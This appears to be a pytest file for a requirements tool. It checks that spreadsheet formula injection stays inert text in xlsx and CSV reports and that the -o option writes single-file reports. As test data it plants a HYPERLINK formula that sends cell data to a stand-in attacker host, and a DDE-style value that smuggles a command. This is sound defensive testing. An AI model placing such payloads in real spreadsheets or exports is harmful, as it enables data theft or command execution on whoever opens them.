"""Spreadsheet cells that cannot be executed: a title that starts like a formula stays text in the xlsx
report (read back with openpyxl), in matrix.csv and in ``export --to csv``; and ``-o FILE`` of a one-file
report format writes that file."""

from __future__ import annotations

import csv
import json

from safereq.cli.main import main

FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click for details")'


def _poison(brake) -> None:
    doc = brake / "parking.md"
    doc.write_text(doc.read_text(encoding="utf-8").replace("Hold the clamp force", FORMULA)
                   .replace("Keep a parked vehicle <standing>", "@SUM(1+1)*cmd|' /C calc'!A0"), encoding="utf-8")


def test_a_formula_title_is_a_text_cell_in_the_xlsx_report(brake, tmp_path, capsys):
    from openpyxl import load_workbook

    _poison(brake)
    assert main(["report", "brake", "-o", str(tmp_path / "r"), "--format", "xlsx"]) == 0
    sheet = load_workbook(tmp_path / "r" / "report.xlsx")["Matrix"]
    header = [c.value for c in sheet[1]]
    titles = {row[0].value: row[header.index("title")] for row in sheet.iter_rows(min_row=2)}
    assert titles["TSR-20"].value == FORMULA and titles["TSR-20"].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_formula_cells_are_inert_in_matrix_csv_and_export_csv(brake, tmp_path, capsys):
    _poison(brake)
    assert main(["report", "brake", "-o", str(tmp_path / "r"), "--format", "csv"]) == 0
    matrix = {r["id"]: r for r in csv.DictReader((tmp_path / "r" / "matrix.csv").open(encoding="utf-8"))}
    assert matrix["TSR-20"]["title"] == "'" + FORMULA
    assert matrix["SG-20"]["title"].startswith("'@SUM")
    capsys.readouterr()
    assert main(["export", "brake", "--to", "csv"]) == 0
    rows = {r["id"]: r for r in csv.DictReader(capsys.readouterr().out.splitlines())}
    assert rows["TSR-20"]["title"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values() if value)


def test_o_with_the_format_suffix_writes_that_file(brake, tmp_path, capsys):
    assert main(["report", "brake", "-o", str(tmp_path / "rep.json"), "--format", "json"]) == 0
    assert (tmp_path / "rep.json").is_file()
    assert json.loads((tmp_path / "rep.json").read_text(encoding="utf-8"))["schema"] == "safereq-report"
    assert main(["report", "brake", "-o", str(tmp_path / "out" / "matrix.xlsx"), "--format", "xlsx"]) == 0
    assert (tmp_path / "out" / "matrix.xlsx").is_file()
    assert main(["report", "brake", "-o", str(tmp_path / "page.html")]) == 0
    assert (tmp_path / "page.html").is_file() and "</html>" in (tmp_path / "page.html").read_text(encoding="utf-8")
    # A name without the suffix is still the folder.
    assert main(["report", "brake", "-o", str(tmp_path / "folder"), "--format", "json"]) == 0
    assert (tmp_path / "folder" / "report.json").is_file()
